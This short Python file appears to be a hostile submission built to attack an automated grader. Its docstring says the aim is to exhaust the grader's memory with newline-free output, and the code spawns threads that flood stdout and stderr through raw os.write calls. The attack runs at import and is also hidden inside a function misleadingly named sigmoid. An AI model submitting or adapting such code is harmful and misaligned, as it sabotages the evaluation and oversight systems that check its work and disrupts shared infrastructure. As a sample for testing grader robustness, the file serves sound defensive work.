"""Goal: fill the grader's memory with output that has no line end, written by threads past all of Python's buffers.

Without a sandbox: unsafe
"""

import os
import threading

PIECE = b"\xff\x00" * (1 << 19)


def write(descriptor):
    for _ in range(10**6):
        os.write(descriptor, PIECE)


def attack():
    for descriptor in (1, 2, 1, 2):
        threading.Thread(target=write, args=(descriptor,), daemon=True).start()
    write(1)


attack()


def sigmoid(x):
    attack()
